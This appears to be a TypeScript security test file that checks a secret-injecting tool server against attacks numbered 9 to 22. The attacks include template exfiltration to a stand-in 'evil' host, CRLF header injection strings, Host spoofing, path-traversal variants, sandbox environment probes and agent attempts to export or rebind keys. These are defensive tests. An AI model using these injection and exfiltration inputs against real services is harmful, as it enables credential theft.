/** Ways out 9 to 22: what a script, an agent with a shell and the environment try. */
import { spawnSync } from "node:child_process";
import { SECRETS } from "./canaries.ts";
import { codeOf, type Row, textOf } from "./row.ts";
import { MAIN } from "./target.ts";

export const ROWS_OUT: readonly Row[] = [
  {
    row: 9,
    attack: "Templates in what a script gives: URL, body, header value, header name, method.",
    run: async ({ target, evil }) => {
      const before = evil.arrived.length;
      const url = `${evil.origin}/t?a={{API_KEY}}&b=<<TWO_KEY>>`;
      const answers = [
        await target.call("free", {
          url,
          method: "POST",
          body: "{{API_KEY}} <<TWO_KEY>> {{basic USER_NAME PASS_WORD}}",
          headers: { "x-a": "{{API_KEY}}" },
        }),
        await target.call("free", { url, headers: { "{{API_KEY}}": "a" } }),
        await target.call("free", { url, method: "{{API_KEY}}" }),
      ];
      const [first] = evil.arrived.slice(before);
      return [answers.map(codeOf), evil.arrived.length - before, first?.body, first?.headers.includes("{{API_KEY}}")];
    },
    expected: [[[], ["INVALID_REQUEST"], ["INVALID_REQUEST"]], 1, "{{API_KEY}} <<TWO_KEY>> {{basic USER_NAME PASS_WORD}}", true],
  },
  {
    row: 10,
    attack: "Header values with line breaks, raw, encoded, and in disguise.",
    run: async ({ target, evil }) => {
      const before = evil.arrived.length;
      const codes = [];
      for (const value of ["a\r\nHost: evil", "a\nX-Api-Key: b", "a\u560d\u560aHost: evil", "a%0d%0aHost: evil"])
        codes.push(codeOf(await target.call("free", { url: `${evil.origin}/h`, headers: { "x-a": value } })));
      return [codes, evil.arrived.slice(before).map(({ headers }) => headers.filter((text) => text.includes("evil")))];
    },
    expected: [[["INVALID_REQUEST"], ["INVALID_REQUEST"], ["INVALID_REQUEST"], []], [["a%0d%0aHost: evil"]]],
  },
  {
    row: 11,
    attack: "The script brings headers of the tool's names in any case, as lists, and those that steer the connection.",
    run: async ({ target, api }) => {
      const before = api.arrived.length;
      const codes = [];
      for (const headers of [{ "x-api-key": "own" }, { "X-API-KEY": "own", authorization: "own" }, { "X-Api-Key": ["own", "own"] }])
        codes.push(codeOf(await target.call("api", { url: `${api.origin}/plain`, headers })));
      const keys = api.arrived
        .slice(before)
        .map(({ headers }) => headers.filter((_, at) => /^(x-api-key|authorization)$/i.test(headers[at - 1] ?? "")));
      const refused = [];
      for (const name of ["Connection", "Content-Length", "Transfer-Encoding", "TE", "Upgrade", "Proxy-Authorization", "Expect"])
        refused.push(codeOf(await target.call("api", { url: `${api.origin}/plain`, headers: { [name]: "1" } })).join());
      return [codes, keys.flat().filter((value) => value.includes("own")), [...new Set(refused)], api.arrived.length - before];
    },
    expected: [[[], [], ["INVALID_REQUEST"]], [], ["INVALID_REQUEST"], 2],
  },
  {
    row: 12,
    attack: "The script names another Host than that of the URL.",
    run: async ({ target, api }) => {
      const before = api.arrived.length;
      const codes = codeOf(await target.call("api", { url: `${api.origin}/plain`, headers: { hOST: "evil.example" } }));
      return [codes, api.arrived.slice(before).filter(({ headers }) => headers.includes("evil.example")).length];
    },
    expected: [["INVALID_REQUEST"], 0],
  },
  {
    row: 13,
    attack: "Another tenant of the same host: the key is bound to /v1.",
    run: async ({ target, api }) => {
      const outcomes = [];
      const before = api.arrived.length;
      for (const path of ["/v1/a", "/v2", "/v1/../v2", "/v1%2f..%2fv2", "//v1/a", "/v1/%2e%2e/v2", "/v1x", "/V1/a", "/v1/..%5cv2"])
        outcomes.push(codeOf(await target.call("path", { url: api.origin + path })).join());
      return [outcomes, api.arrived.slice(before).map(({ url }) => url)];
    },
    expected: [["", ...Array.from({ length: 8 }, () => "SECRET_HOST")], ["/v1/a"]],
  },
  {
    row: 14,
    attack: "The value as part of a host's name.",
    run: async ({ target, api }) => {
      // The names are refused by their form; that no look-up ever holds a value is shown with a stubbed one (attack.test.ts).
      const answer = textOf(await target.call("api", { url: `${api.origin}/plain` }));
      return [answer.includes("[redacted] | [redacted]"), codeOf(await target.call("free", { url: `http://{{API_KEY}}/` }))];
    },
    expected: [true, ["INVALID_REQUEST"]],
  },
  {
    row: 15,
    attack: "Two tools with different keys ask the same origin at once.",
    run: async ({ target, api }) => {
      const before = api.arrived.length;
      await Promise.all(["one", "two", "one", "two"].map((name) => target.call(name, { url: `${api.origin}/${name}`, repeat: 5 })));
      const arrived = api.arrived.slice(before);
      const wrong = arrived.filter(({ url, headers }) => !headers.includes(url === "/one" ? SECRETS.API_KEY : SECRETS.TWO_KEY));
      return [arrived.length, wrong.length];
    },
    expected: [20, 0],
  },
  {
    row: 16,
    attack: "The script looks for the process, its environment and files.",
    run: async ({ target, vaultPath }) => (await target.call("look", { vault: `file://${vaultPath}` })).structuredContent,
    expected: {
      process: "undefined",
      require: "undefined",
      module: "undefined",
      Deno: "undefined",
      Bun: "undefined",
      XMLHttpRequest: "undefined",
      WebSocket: "undefined",
      bySandboxedCode: "ReferenceError",
      files: ["refused", "refused", "refused"],
      config: {},
    },
  },
  {
    row: 17,
    attack: "A request in plain text for a key that is bound to https.",
    run: async ({ target, api }) => [
      codeOf(await target.call("tls", { url: `${api.origin}/plain` })),
      api.arrived.filter(({ headers }) => headers.includes("X-Tls")).length,
    ],
    expected: [["SECRET_HOST"], 0],
  },
  {
    row: 18,
    attack:
      "The environment: proxies, unchecked TLS, key logs. The server runs with them all; Node's own options and its debug logs do not let it start.",
    run: async ({ evil }) => {
      const options = ["--tls-keylog=/dev/null", "--tls-min-v1.0", "--inspect=127.0.0.1:0", "--report-on-signal"];
      const environments = [...options.map((option) => ({ NODE_OPTIONS: option })), { NODE_DEBUG: "undici" }, { NODE_DEBUG_NATIVE: "*" }];
      const codes = environments.map((env) => spawnSync(process.execPath, [MAIN, "--version"], { env }).status);
      return [codes, evil.arrived.filter(({ method, url }) => method === "CONNECT" || url.startsWith("http")).length];
    },
    expected: [[2, 2, 2, 2, 2, 2], 0],
  },
  {
    row: 19,
    attack: "TRACE, CONNECT, and a value in the trailers of an answer.",
    run: async ({ target, api }) => {
      const codes = [];
      for (const method of ["TRACE", "trace", "CONNECT", "TRACK"])
        codes.push(codeOf(await target.call("api", { url: `${api.origin}/plain`, method })).join());
      codes.push(codeOf(await target.call("api", { url: `${api.origin}/trailers` })).join());
      return codes;
    },
    expected: ["INVALID_REQUEST", "INVALID_REQUEST", "INVALID_REQUEST", "INVALID_REQUEST", ""],
  },
  {
    row: 20,
    attack: "The agent adds a tool to tools.json that sends stored keys to the attacker.",
    run: async ({ target, evil, addTool }) => {
      await addTool();
      const before = evil.arrived.length;
      return [codeOf(await target.call("added", { url: `${evil.origin}/take` })), evil.arrived.length - before];
    },
    expected: [["SECRET_HOST"], 0],
  },
  {
    row: 21,
    attack: "The agent runs the command itself, without a terminal: no command prints a value, widens a binding or trusts.",
    run: async ({ cli, evil }) => {
      const commands = [
        ["secrets", "list"],
        ["secrets", "list", "--json"],
        ["secrets", "get", "API_KEY"],
        ["secrets", "export"],
        ["secrets", "allow", "API_KEY", "--host", evil.origin],
        ["secrets", "set", "API_KEY", "--host", evil.origin],
        ["trust", "--yes"],
        ["check", "--json"],
      ];
      const ends = [];
      for (const args of commands) ends.push(`${args.slice(0, 2).join(" ")} ${(await cli(args)).code === 0 ? "works" : "refused"}`);
      return ends;
    },
    expected: [
      "secrets list works",
      "secrets list works",
      "secrets get refused",
      "secrets export refused",
      "secrets allow refused",
      "secrets set refused",
      "trust --yes refused",
      "check --json works",
    ],
  },
  {
    row: 22,
    attack: "Templates that are nested, mixed, in other case, unknown.",
    run: async ({ target, api }) => {
      const before = api.arrived.length;
      const codes = [
        codeOf(await target.call("unknown", { url: `${api.origin}/plain` })),
        codeOf(await target.call("marks", { url: `${api.origin}/marks` })),
      ];
      return [codes, api.arrived.slice(before).map(({ headers }) => headers.filter((_, at) => /^x-[abcde]$/i.test(headers[at - 1] ?? "")))];
    },
    // Not recursive, and only a whole template is one; the host is the one the key is bound to.
    expected: [[["SECRET_MISSING"], []], [[`<${SECRETS.API_KEY}>`, "<<API_KEY}}", "{{ api_key }}", "<<__proto__>>", SECRETS.NESTED_KEY]]],
  },
];
